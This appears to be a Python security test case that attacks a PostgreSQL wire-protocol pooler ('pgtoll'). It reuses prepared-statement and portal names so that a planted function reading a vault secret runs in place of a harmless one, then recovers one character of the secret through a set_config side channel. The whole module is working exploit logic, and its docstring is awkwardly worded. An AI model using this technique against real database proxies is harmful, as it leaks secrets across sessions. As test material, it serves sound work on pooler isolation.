"""Makes up a parameter by a letter by SQL's EXECUTE and FETCH of what messages have named."""

from attacks.frames import SYNC, ask, bind, parse
from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"
SHOWS = "letter-116"
SETUP = """
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql
  AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE FUNCTION tame(given text) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN
  PERFORM 1 FROM item;
  RETURN true;
END $$;
"""
ASKED = "SELECT 'letter' || '-{0}' WHERE current_setting('x.y1_{0}', true) IS NOT NULL"
COIN, TAME = b"SELECT coin('a')", b"SELECT tame('a')"


def attack(server: Server) -> bytes:
    executed = (query(b"PREPARE s AS " + TAME), query(b"DEALLOCATE s"), parse(COIN, b"s"), SYNC)
    fetched = (query(b"BEGIN"), parse(COIN), bind(b"", b"p"), SYNC)
    again = (query(b"PREPARE s AS " + TAME), query(b"EXECUTE s"))
    got = _played(server, [*executed, *again])
    return got + _played(server, [*fetched, query(b'FETCH FROM "p"'), query(b"ROLLBACK")])


def _played(server: Server, messages: list[bytes]) -> bytes:
    with server.login() as client:
        rounds = sum(one[:1] in (b"Q", b"S") for one in messages)
        got = ask(client, *messages, rounds=rounds)
        asked = (query(ASKED.format(one).encode()) for one in range(112, 119))
        return got + b"".join(ask(client, one) for one in asked)
